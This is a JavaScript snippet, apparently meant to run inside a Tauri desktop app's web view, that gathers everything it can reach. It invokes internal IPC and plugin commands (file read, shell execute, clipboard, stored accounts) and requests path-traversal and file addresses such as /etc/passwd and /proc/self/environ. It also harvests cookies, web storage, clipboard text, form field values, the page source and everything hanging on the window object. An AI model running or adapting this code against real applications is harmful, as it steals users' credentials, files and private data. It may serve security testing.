// Everything that a script in the page can lay hands on: what each command answers, what the page itself holds, what the
// web view keeps, and what can be read from its own address and from others. Goes on being asked until it has all, and answers
// with it as texts.

const plunder = async () => {
  const taken = {};
  const take = async (name, read) => {
    try {
      const value = await read();
      taken[name] = typeof value === "string" ? value : JSON.stringify(value) ?? String(value);
    } catch (error) {
      taken[name] = `refused: ${typeof error === "string" ? error : JSON.stringify(error) ?? ""} ${error}`;
    }
  };
  const invoke = (command, given = {}) => window.__TAURI_INTERNALS__.invoke(command, given);

  for (const command of args.commands) await take(`command ${command}`, () => invoke(command));
  await take("start again", () => invoke("start"));
  for (const [command, given] of args.calls) await take(`call ${command}`, () => invoke(command, given));
  for (const command of [
    "plugin:store|load", "plugin:store|get", "plugin:store|entries", "plugin:opener|open_path", "plugin:path|resolve_directory",
    "plugin:clipboard-manager|read_text", "plugin:fs|read_file", "plugin:shell|execute", "plugin:http|fetch", "plugin:event|emit",
    "plugin:webview|create_webview_window", "plugin:window|create", "plugin:app|version", "plugin:resources|close",
    "plugin:__TAURI_CHANNEL__|fetch",
  ])
    await take(command, () => invoke(command, { path: "settings.json", rid: 1, key: "accounts", id: 1 }));

  for (const address of [
    "/", "/settings.json", "/../settings.json", "/..%2f..%2fsettings.json", "/%2e%2e/%2e%2e/settings.json", "/logs/", "//etc/passwd",
    "tauri://localhost/etc/passwd", "tauri://localhost/%2fetc%2fpasswd", "tauri://other/", "asset://localhost/etc/passwd",
    "ipc://localhost/start", "isolation://localhost/", "file:///etc/passwd", "file:///proc/self/environ", ...args.files,
  ])
    await take(`address ${address}`, async () => {
      const answer = await fetch(address, address.startsWith("ipc:") ? { method: "POST", body: "{}" } : {});
      return `${answer.status} ${await answer.text()}`;
    });
  await take("frame of a file", async () => {
    const frame = document.createElement("iframe");
    const ended = new Promise((resolve) => {
      for (const event of ["load", "error"]) frame.addEventListener(event, resolve, { once: true });
      AbortSignal.timeout(500).addEventListener("abort", resolve);
    });
    frame.src = "file:///etc/passwd";
    document.body.append(frame);
    await ended;
    return String(frame.contentDocument?.body?.innerText ?? "nothing");
  });

  await take("cookies", () => document.cookie);
  await take("local storage", () => ({ ...localStorage }));
  await take("session storage", () => ({ ...sessionStorage }));
  await take("databases", () => indexedDB.databases());
  await take("caches", () => caches.keys());
  await take("clipboard", () => navigator.clipboard.readText());
  await take("name and history", () => [window.name, history.state, document.referrer, location.href]);
  await take("document", () => document.documentElement.outerHTML);
  await take("fields", () => [...document.querySelectorAll("input, textarea")].map((field) => field.value));
  await take("what was loaded", () => performance.getEntries().map((entry) => entry.name));

  const seen = new Set();
  const walk = (value, depth) => {
    if (value === null || (typeof value !== "object" && typeof value !== "function")) return String(value);
    if (seen.has(value) || depth > 6) return "";
    seen.add(value);
    const parts = typeof value === "function" ? [String(value)] : [];
    for (const key of Reflect.ownKeys(value)) {
      try {
        parts.push(String(key), walk(value[key], depth + 1));
      } catch {
        parts.push(String(key));
      }
    }
    return parts.join(" ");
  };
  await take("all that hangs on the window", () => walk(window, 0));
  return taken;
};

if (!window.plundered) {
  window.plundered = {};
  void plunder().then((taken) => (window.plundered.taken = taken));
}
return window.plundered.taken;
